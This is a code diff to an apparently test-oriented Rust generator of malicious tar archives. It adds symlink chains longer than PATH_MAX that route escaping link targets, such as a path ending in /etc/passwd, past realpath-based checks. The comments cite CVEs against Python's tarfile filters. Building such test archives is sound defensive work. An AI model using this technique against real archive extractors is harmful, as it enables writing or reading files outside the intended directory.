@@ -1,8 +1,9 @@
 //! Link chains: links made before the links they traverse, and a chain whose expanded form
 //! passes `PATH_MAX` while every name the archive writes fits.
 
-use super::member::{choose, distinct, one_in, shuffle, Seq};
-use super::target::{aim, aim_relative, decoy_in_dir, dir_depth, join, ups};
+use super::member::{choose, distinct, one_in, shuffle, AttackKind, AttackMember, Seq};
+use super::target::{aim, aim_relative, components, decoy_in_dir, dir_depth, join, ups};
+use crate::jail::view_layout::{VIEW_ROOT, VIEW_ROOT_DEPTH};
 use snapconf_tarbytes::Rng;
 
 /// Names a chain's links get; some nested, so each hop's `..` count depends on its depth.
@@ -44,6 +45,86 @@ pub(super) fn link_chain(rng: &mut Rng, seq: &mut Seq) {
     }
 }
 
+/// The members of [`path_max_chain`] up to its link back to the root: the deep directory,
+/// the short links `s` (named `link`) and `s/s/…/lll…`, whose name it returns (a top-level
+/// name that the kernel resolves to the root and `os.path.realpath` gives up on).
+pub(super) fn chain_to_root(rng: &mut Rng, seq: &mut Seq, link: &str) -> String {
+    let component = "d".repeat(240 + rng.below(11));
+    let real = |k: usize| vec![component.as_str(); k].join("/");
+    let group = if one_in(rng, 2) { 4 } else { 8 };
+    seq.dir(format!("{}/", real(LEVELS))).mode(0o777);
+    for g in 0..LEVELS / group {
+        let name = if g == 0 {
+            link.to_string()
+        } else {
+            format!("{}/{link}", real(g * group))
+        };
+        seq.symlink(name, real(group));
+    }
+    let short = vec![link; LEVELS / group].join("/");
+    let long = format!("{short}/{}", "l".repeat(254));
+    seq.symlink(&long, ups(LEVELS));
+    long
+}
+
+/// The link classes as Python's 2025 filter bypasses combine them with the PATH_MAX chain
+/// (CVE-2025-4138, CVE-2025-4330, CVE-2024-12718): `members` (one class's draw) with the
+/// chain of [`chain_to_root`] first and every link target that leaves the root (absolute,
+/// or climbing past it) spelled through the chain instead, `…/lll…/../../../../etc/passwd`,
+/// so that a check that resolves the target with `realpath` reads it as inside. Members
+/// with no such target are returned as they are, with no chain.
+pub(super) fn through_chain(rng: &mut Rng, members: Vec<AttackMember>) -> Vec<AttackMember> {
+    let root = components(VIEW_ROOT);
+    // The jail path a target reaches, when outside the root: from the link's directory
+    // (symlinks) or the root (hardlinks).
+    let outside = |m: &AttackMember| -> Option<(usize, Vec<String>)> {
+        let target = std::str::from_utf8(&m.link).ok()?;
+        let base = match m.kind {
+            AttackKind::Symlink => dir_depth(&m.name),
+            AttackKind::Hardlink => 0,
+            _ => return None,
+        };
+        // Only a link that sits inside the root: a name of its own outside is another class.
+        let name = std::str::from_utf8(&m.name).ok()?;
+        if name.starts_with('/') || components(name).contains(&"..") {
+            return None;
+        }
+        let mut at: Vec<String> = if target.starts_with('/') {
+            Vec::new()
+        } else {
+            let dirs = components(name);
+            let dirs = &dirs[..base.min(dirs.len())];
+            root.iter().chain(dirs).map(|c| c.to_string()).collect()
+        };
+        for c in components(target) {
+            match c {
+                "." => {}
+                ".." => {
+                    at.pop();
+                }
+                c => at.push(c.to_string()),
+            }
+        }
+        let inside = at.len() >= root.len() && at.iter().zip(&root).all(|(a, b)| a == b);
+        (!inside).then_some((base, at))
+    };
+    if !members.iter().any(|m| outside(m).is_some()) {
+        return members;
+    }
+    let mut seq = Seq::default();
+    // A name no class uses, so the chain's links replace none of the class's.
+    let long = chain_to_root(rng, &mut seq, "pm");
+    let mut out = seq.members;
+    for mut m in members {
+        if let Some((base, at)) = outside(&m) {
+            let from_root = join(ups(VIEW_ROOT_DEPTH), at.join("/"));
+            m.link = join(join(ups(base), &long), from_root);
+        }
+        out.push(m);
+    }
+    out
+}
+
 /// Levels of real directories in [`path_max_chain`].
 const LEVELS: usize = 16;
 
@@ -59,21 +140,7 @@ const LEVELS: usize = 16;
 /// and target the archive writes is at most 4015 bytes, so it passes a 4096-byte name
 /// limit; each member after the directory is 1 of at most 10.
 pub(super) fn path_max_chain(rng: &mut Rng, seq: &mut Seq) {
-    let component = "d".repeat(240 + rng.below(11));
-    let real = |k: usize| vec![component.as_str(); k].join("/");
-    let group = if one_in(rng, 2) { 4 } else { 8 };
-    seq.dir(format!("{}/", real(LEVELS))).mode(0o777);
-    for g in 0..LEVELS / group {
-        let name = if g == 0 {
-            "s".to_string()
-        } else {
-            format!("{}/s", real(g * group))
-        };
-        seq.symlink(name, real(group));
-    }
-    let short = vec!["s"; LEVELS / group].join("/");
-    let long = format!("{short}/{}", "l".repeat(254));
-    seq.symlink(&long, ups(LEVELS));
+    let long = chain_to_root(rng, seq, "s");
     let (dir, tail) = decoy_in_dir(rng);
     // `long` resolves to the root, so the rest is spelled from depth 0.
     let aimed = join(&long, aim_relative(rng, 0, dir));
